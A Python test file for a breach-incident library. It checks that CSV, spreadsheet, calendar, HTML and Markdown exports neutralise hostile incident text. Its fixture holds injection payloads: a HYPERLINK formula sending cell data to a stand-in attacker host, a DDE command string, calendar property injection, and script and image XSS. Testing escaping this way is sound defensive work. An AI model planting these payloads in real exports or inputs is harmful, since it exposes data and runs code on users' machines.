"""A hostile incident through every export a spreadsheet, calendar or browser opens.

Incident text comes from people and tools outside the host's control. The ids, title,
descriptions and party names below carry a spreadsheet formula (``=``, ``+``, ``-``, ``@``,
a leading tab or carriage return), iCalendar property injection (a line break followed by
a property) and HTML and Markdown markup. Each export must keep them text: no cell a
spreadsheet evaluates, no calendar property the incident did not come from, no markup a
browser or a Markdown renderer would act on.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from breachrules import AuditLog, Engine, load_incident
from breachrules.audit.register import register
from breachrules.io.safe import FORMULA_LEADS, markdown_text, spreadsheet_cell
from breachrules.views.notebook import assessment_html, incident_html, plan_html

OWNER = '=HYPERLINK("http://evil.example/?"&A1)\r\nATTENDEE:mailto:evil@example.org'
PROVIDER = "+cmd|' /C calc'!A0\nSUMMARY:pwned"
HOSTILE: dict[str, Any] = {
    "id": "@SUM(1+1)\r\nBEGIN:VEVENT",
    "title": "\t=1+1 <script>alert(1)</script> [click](javascript:alert(1)) | pipe |",
    "discovered_at": "2026-03-02T14:30:00-05:00",
    "parties": [
        {"id": OWNER, "name": "-2+3 <img src=x onerror=alert(1)>", "data_role": "owner",
         "established_in": ["US-CA"]},
        {"id": PROVIDER, "name": "\r=2*3 **bold** ![i](http://evil.example/x.png)",
         "data_role": "service_provider", "serves": OWNER, "established_in": ["US-CA"]},
    ],
    "breached_party": PROVIDER,
    "exposures": [
        {"description": "-2+3\r\nEND:VTODO\r\nBEGIN:VEVENT <b>x</b>",
         "elements": ["name", "ssn"], "residents": {"US-CA": 1200, "US-NY": 600},
         "encrypted": False, "acquired": True, "accessed": True}
    ],
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(engine: Engine) -> Any:
    incident = load_incident(HOSTILE)
    return incident, engine.assess(incident)


def _formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_LEADS)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_hostile_text_reaches_the_exports(hostile: Any) -> None:
    """Guard against a vacuous test: the payloads are in what is exported."""
    _, assessment = hostile
    parties = {o.party for o in assessment.obligations} | {
        o.recipient_party for o in assessment.obligations
    }
    assert {OWNER, PROVIDER} <= parties


def test_plan_csv_has_no_formula_cell(hostile: Any) -> None:
    _, assessment = hostile
    cells = _csv_cells(assessment.plan().to_csv())
    assert any(PROVIDER in c for c in cells)  # the party is there, as text
    assert not [c for c in cells if _formula(c)]


def test_register_csv_and_xlsx_have_no_formula_cell(hostile: Any, tmp_path: Path) -> None:
    incident, assessment = hostile
    log = AuditLog(tmp_path / "audit.jsonl", keys=None)
    log.record_assessment(incident, assessment)
    reg = register(log)
    cells = _csv_cells(reg.to_csv())
    assert any(HOSTILE["id"].split("\r")[0] in c for c in cells)
    assert not [c for c in cells if _formula(c)]
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(reg.to_xlsx()))
    for row in book["register"].iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not _formula(cell.value), (cell.coordinate, cell.value)
    md = reg.to_markdown()
    _assert_markdown_inert(md, columns=10)


#: Every property a to-do of the plan may carry; anything else came from the incident.
ALLOWED = {"BEGIN", "END", "VERSION", "PRODID", "UID", "DTSTAMP", "SUMMARY", "DUE",
           "STATUS", "PRIORITY", "CATEGORIES", "DESCRIPTION", "ACTION", "TRIGGER"}  # fmt: skip


def test_plan_calendar_has_no_injected_property(hostile: Any) -> None:
    from icalendar import Calendar

    _, assessment = hostile
    plan = assessment.plan()
    raw = plan.to_ics().decode("utf-8")
    unfolded = re.sub(r"\r\n[ \t]", "", raw)
    lines = unfolded.split("\r\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        name = re.split(r"[;:]", line, maxsplit=1)[0]
        assert name in ALLOWED, line
    assert "\r" not in unfolded.replace("\r\n", "")
    cal = Calendar.from_ical(raw)
    assert len(cal.walk("VTODO")) == len(plan.actions)
    assert cal.walk("VEVENT") == []
    summaries = [str(t.get("summary")) for t in cal.walk("VTODO")]
    # the party's name is kept, as text on one line
    assert any("ATTENDEE:mailto" in s or "SUMMARY:pwned" in s for s in summaries)
    assert all("\n" not in s and "\r" not in s for s in summaries)


def test_html_views_escape_markup(hostile: Any) -> None:
    incident, assessment = hostile
    for html in (
        incident_html(incident),
        assessment_html(assessment),
        plan_html(assessment.plan()),
    ):
        assert "<script" not in html and "<img" not in html and "<b>x" not in html
        assert "onerror=alert" not in html or "&lt;img" in html


def _assert_markdown_inert(md: str, columns: int) -> None:
    for line in md.splitlines():
        assert "<script" not in line and "<img" not in line
        assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", line)  # no link or image
        if not line.startswith("|") or line.startswith("|---"):
            # The register's statement of what was checked and its section headings.
            assert not line.startswith(("<", "[", "!")), line
            continue
        assert line.startswith("| ") and line.endswith(" |")
        cells = re.split(r"(?<!\\)\|", line)[1:-1]
        assert len(cells) == columns, line


def test_markdown_text_escapes_links_images_html_and_blocks() -> None:
    for payload in (
        "[click](javascript:alert(1))",
        "![i](http://evil.example/x.png)",
        "<script>alert(1)</script>",
        "# heading",
        "| a | b |",
        "1. list",
        "- item",
    ):
        out = markdown_text(payload)
        assert "<" not in out and "\n" not in out
        assert not re.search(r"(?<!\\)[\[\]|]", out)
        assert not re.match(r"\s*(#|- |\d+\. )", out), out
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("  @SUM(A1)") == "'  @SUM(A1)"
    assert spreadsheet_cell("plain") == "plain"
